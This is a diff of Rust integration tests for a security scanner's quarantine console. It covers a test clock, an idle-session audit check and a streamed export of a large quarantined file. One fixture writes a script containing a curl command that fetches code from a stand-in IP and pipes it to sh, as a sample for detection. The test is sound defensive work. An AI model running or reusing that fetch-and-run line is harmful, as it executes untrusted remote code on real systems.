@@ -26,6 +26,11 @@ struct Server {
     cacert: PathBuf,
 }
 
+/// The file whose number of seconds moves the console's clock of a test server ahead.
+fn clock_file(env: &Env) -> PathBuf {
+    env.dir.path().join("console-clock-offset")
+}
+
 impl Server {
     fn start(env: &Env, args: &[&str]) -> Server {
         let mut child = pacsguard()
@@ -33,6 +38,8 @@ impl Server {
             .arg(&env.home)
             .args(["serve", "--listen", "127.0.0.1:0"])
             .args(args)
+            // The console's test clock (debug builds only): absent, no offset.
+            .env("PACSGUARD_TEST_CLOCK_FILE", clock_file(env))
             .stdin(Stdio::null())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped())
@@ -815,6 +822,7 @@ fn the_console_in_a_real_browser_from_setup_to_an_acceptance() {
         .env("BASE", &server.base)
         .env("SETUP_LINK", &link)
         .env("SHOTS", &shots)
+        .env("CLOCK_FILE", clock_file(&env))
         .env("NODE_PATH", &node_modules)
         .output()
         .expect("node runs");
@@ -837,6 +845,13 @@ fn the_console_in_a_real_browser_from_setup_to_an_acceptance() {
     assert!(
         text.contains("console:admin") && text.contains("CHG-1234"),
         "{text}"
+    );
+    // The idle expiry the browser met (the console's clock moved past the limit) is on
+    // the trail.
+    let all = stdout(&env.run(&["audit", "show", "--json"]));
+    assert!(
+        all.contains("the session of admin ended: idle for 15 minutes"),
+        "{all}"
     );
 }
 
@@ -1176,6 +1191,105 @@ fn a_difference_not_yet_reported_is_not_accepted_with_what_was_shown() {
         stdout(&check)
     );
     drop(unseen);
+    server.stop();
+}
+
+/// The peak resident memory of a process so far (VmHWM), in KiB.
+fn peak_kib(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("VmHWM:"))
+        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+        .expect("VmHWM")
+}
+
+/// A vault copy far larger than a read chunk is exported through the console as a
+/// stream: the download is the copy byte for byte, and the process that runs the guard
+/// never holds it (found open in session 7: the copy was read whole, by the vault's check
+/// and again to send it, so its peak memory grew by twice the copy's size).
+#[test]
+fn a_large_quarantined_copy_is_exported_as_a_stream() {
+    use sha2::{Digest as _, Sha256};
+    const COPY_BYTES: usize = 48 << 20;
+    let env = Env::new();
+    env.profile(&[]);
+    let server = Server::start(&env, &[]);
+    let secret = first_admin(&server);
+    let incoming = env.dir.path().join("incoming");
+    std::fs::create_dir_all(&incoming).expect("mkdir");
+    std::fs::write(
+        incoming.join("run.sh"),
+        b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n",
+    )
+    .expect("write");
+    let scan = env.run(&["scan", "--quarantine", incoming.to_str().expect("utf-8")]);
+    assert_eq!(scan.status.code(), Some(1), "{}", stderr(&scan));
+    // A large copy beside the real one, laid out as the vault lays one out (ASCII, so
+    // curl's body comes back as text unchanged).
+    let vault = env.home.join("quarantine");
+    let small = std::fs::read_dir(&vault)
+        .expect("vault")
+        .flatten()
+        .next()
+        .expect("an entry")
+        .path();
+    let record_file = std::fs::read_dir(&small)
+        .expect("entry")
+        .flatten()
+        .find(|e| e.file_name().to_string_lossy().ends_with(".json"))
+        .expect("a record");
+    let mut big = String::with_capacity(COPY_BYTES);
+    let mut n = 0u64;
+    while big.len() + 32 < COPY_BYTES {
+        big.push_str(&format!("quarantined line {n:012}\n"));
+        n += 1;
+    }
+    let sha = hex::encode(Sha256::digest(big.as_bytes()));
+    let entry = vault.join(&sha);
+    std::fs::create_dir(&entry).expect("entry");
+    std::fs::write(entry.join("content"), big.as_bytes()).expect("content");
+    let mut record: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(record_file.path()).expect("record")).expect("json");
+    record["sha256"] = serde_json::Value::from(sha.clone());
+    std::fs::write(
+        entry.join(record_file.file_name()),
+        serde_json::to_vec(&record).expect("json"),
+    )
+    .expect("record");
+
+    let (status, headers, _) = server.curl("GET", "/quarantine", &[]);
+    assert_eq!(status, 200, "{headers}");
+    // From here on the copy is shown twice and exported once.
+    let before = peak_kib(server.child.id());
+    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let (status, headers, _) = server.curl(
+        "POST",
+        "/step-up",
+        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
+    );
+    assert_eq!(status, 303, "{headers}");
+    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
+    assert!(item.contains("id=\"verified\""), "{item}");
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let (status, headers, body) = server.curl(
+        "POST",
+        "/quarantine/export",
+        &[
+            ("csrf", &csrf),
+            ("sha", &sha),
+            ("reason", "sample for the CERT, ticket 4712"),
+        ],
+    );
+    assert_eq!(status, 200, "{headers}");
+    assert_eq!(body.len(), big.len());
+    assert!(body == big, "the download is the copy");
+    let grown = peak_kib(server.child.id()).saturating_sub(before);
+    assert!(
+        grown < (COPY_BYTES / 2 / 1024) as u64,
+        "the guard's process grew by {grown} KiB for a {COPY_BYTES}-byte copy"
+    );
     server.stop();
 }
 
